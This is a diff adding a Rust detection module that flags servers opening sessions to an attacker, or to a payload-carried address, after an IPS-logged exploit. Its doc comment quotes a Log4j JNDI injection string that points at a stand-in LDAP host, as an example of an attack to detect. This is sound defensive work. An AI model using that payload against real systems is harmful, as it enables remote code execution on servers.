@@ -1,0 +1,174 @@
+//! Did the attacked server then open a session to the attacker?
+//!
+//! Why: it is the one thing in firewall logs that proves an exploit succeeded. A server that was just attacked and
+//! opens a session to the attacker, or to an address that the payload carried, runs the attacker's code.
+//!
+//! Example: IPS `action=detected attack=…Log4j… url="…${jndi:ldap://203.0.113.9:1389/a}"`, two minutes later traffic
+//! from the server to 203.0.113.9 port 1389. A denied attempt proves the same.
+//!
+//! Known false positives, left out: late packets of the attacked service that look like a session of their own (source
+//! port is the attacked port), active FTP (source port 20), bounces of a mail server (25) and a resolver's questions
+//! (53) to somebody who wrote to them, ICMP. A carried address counts only on the port that the payload says, so that
+//! `http://192.0.2.1/` in a payload does not turn every look-up there into a call-back.
+//!
+//! Any other outside address is an [`FindingKind::OtherContact`], once a server and address, and only on an unusual
+//! port: on 25, 53, 80, 123 and 443 servers fetch updates every day, and without learned habit such a session says
+//! nothing.
+//!
+//! ATT&CK: T1190, then T1105.
+
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use hinomi_model::{
+    Class, Direction, Disposition, EventTime, Fact, FactSource, Finding, FindingId, FindingKind, Peer,
+    Protocol, Role, Seconds, Settings, Subject, TenantId,
+};
+
+use super::carried::{self, Carried};
+use super::kept::{Kept, Timed};
+use super::{Scene, answer, bare, identity, is_open_attack};
+use crate::tables::techniques;
+
+/// Attacks kept of the last forty minutes.
+const MAX_ATTACKS: usize = 1 << 16;
+/// Attacks kept of one server; beyond, the oldest call-backs of a mass attack may be missed.
+const MAX_ATTACKS_EACH: usize = 1024;
+/// Outgoing sessions kept of the last forty minutes.
+const MAX_OPENED: usize = 1 << 18;
+/// Outgoing sessions kept of one host.
+const MAX_OPENED_EACH: usize = 4096;
+/// Durations are whole seconds: a session may seem to begin this long before its cause.
+const CLOCK_SLACK: Seconds = 1;
+/// Ports on which servers speak to the outside every day.
+const USUAL_PORTS: [u16; 5] = [25, 53, 80, 123, 443];
+const FTP_DATA: u16 = 20;
+
+#[derive(Debug)]
+pub(super) struct Callbacks {
+    attacks: Kept<(TenantId, IpAddr), Attack>,
+    opened: Kept<(TenantId, IpAddr), Fact>,
+}
+
+#[derive(Debug)]
+struct Attack {
+    question: Arc<Finding>,
+    carried: Vec<Carried>,
+}
+
+impl Timed for Attack {
+    fn time(&self) -> EventTime {
+        self.question.last
+    }
+}
+
+impl Default for Callbacks {
+    fn default() -> Self {
+        Callbacks {
+            attacks: Kept::new(MAX_ATTACKS, MAX_ATTACKS_EACH),
+            opened: Kept::new(MAX_OPENED, MAX_OPENED_EACH),
+        }
+    }
+}
+
+impl Callbacks {
+    pub(super) fn ask(&mut self, scene: &Scene<'_>, finding: &Finding, out: &mut Vec<Finding>) {
+        let Subject::Host(host) = finding.subject else { return };
+        if !is_open_attack(finding) || finding.class == Class::Recon {
+            return;
+        }
+        let mut carried = carried::of(finding);
+        carried.retain(|(ip, _)| *ip != host && !scene.is_inside(&finding.tenant, *ip));
+        let attack = Attack { question: Arc::new(bare(finding)), carried };
+        let key = (finding.tenant.clone(), host);
+        for fact in self.opened.of(&key) {
+            compare(scene, &attack, fact, out);
+        }
+        self.attacks.push(key, attack);
+    }
+
+    pub(super) fn learn(
+        &mut self,
+        scene: &Scene<'_>,
+        source: &FactSource,
+        fact: &Fact,
+        out: &mut Vec<Finding>,
+    ) {
+        let carries = fact.protocol == Protocol::TCP || fact.protocol == Protocol::UDP;
+        if fact.direction != Direction::Outbound || !carries {
+            return;
+        }
+        let key = (source.tenant.clone(), fact.src_ip);
+        for attack in self.attacks.of(&key) {
+            compare(scene, attack, fact, out);
+        }
+        self.opened.push(key, *fact);
+    }
+
+    pub(super) fn sweep(&mut self, before: EventTime) {
+        self.attacks.sweep(before);
+        self.opened.sweep(before);
+    }
+}
+
+fn compare(scene: &Scene<'_>, attack: &Attack, fact: &Fact, out: &mut Vec<Finding>) {
+    let question = &attack.question;
+    let Some(attacker) = question.peers.first() else { return };
+    let replies = attacker.port.is_some_and(|service| service == fact.src_port) || fact.src_port == FTP_DATA;
+    if replies || !follows(scene.settings, question, fact.began) {
+        return;
+    }
+    let role = scene.role(&question.tenant, fact.src_ip);
+    let service =
+        (role == Role::Mail && fact.dst_port == 25) || (role == Role::Resolver && fact.dst_port == 53);
+    let called = attack
+        .carried
+        .iter()
+        .any(|(ip, port)| *ip == fact.dst_ip && port.is_none_or(|port| port == fact.dst_port));
+    if called || (fact.dst_ip == attacker.ip && !service) {
+        out.push(contact(question, FindingKind::Callback, fact));
+    } else if !USUAL_PORTS.contains(&fact.dst_port) && fact.dst_ip != attacker.ip {
+        out.push(contact(question, FindingKind::OtherContact, fact));
+    }
+}
+
+/// Tells whether a session began within the window after one of the attack's hits.
+fn follows(settings: &Settings, question: &Finding, began: EventTime) -> bool {
+    let after =
+        |hit: EventTime| began.plus(CLOCK_SLACK) >= hit && began <= hit.plus(settings.callback_window);
+    // Not every hit of a full list is known; then anything between first and last counts.
+    let full = question.instants.len() >= Finding::MAX_INSTANTS;
+    let between = full && began.plus(CLOCK_SLACK) >= question.first && began <= question.last;
+    between
+        || after(question.first)
+        || after(question.last)
+        || question.instants.iter().any(|hit| after(*hit))
+}
+
+fn contact(question: &Finding, kind: FindingKind, fact: &Fact) -> Finding {
+    let subject = Subject::Host(fact.src_ip);
+    let print = identity(&question.tenant, &subject, kind).text(&fact.dst_ip.to_string());
+    let print = match kind {
+        // Every call-back counts; another contact once a day.
+        FindingKind::Callback => {
+            print.number(fact.dst_port.into()).number(fact.began.nanos().into()).number(fact.src_port.into())
+        }
+        _ => print.number(fact.began.day().0.into()),
+    };
+    let mut finding = answer(question, subject, kind, FindingId(print.finish()), fact.began);
+    finding.direction = Direction::Outbound;
+    finding.disposition = fact.disposition;
+    finding.last = fact.time.max(fact.began);
+    finding.received = question.received.max(fact.time);
+    finding.count = u64::from(fact.count.max(1));
+    finding.peers = vec![Peer { ip: fact.dst_ip, port: Some(fact.dst_port) }];
+    finding.sessions = fact.session.into_iter().collect();
+    finding.unsettled = fact.session.is_none();
+    finding.technique = Some(techniques::TOOL_TRANSFER.to_owned());
+    finding.bytes_in = fact.bytes_in;
+    finding.bytes_out = Some(fact.bytes_out);
+    if fact.disposition == Disposition::Blocked {
+        finding.bytes_in = None;
+    }
+    finding
+}
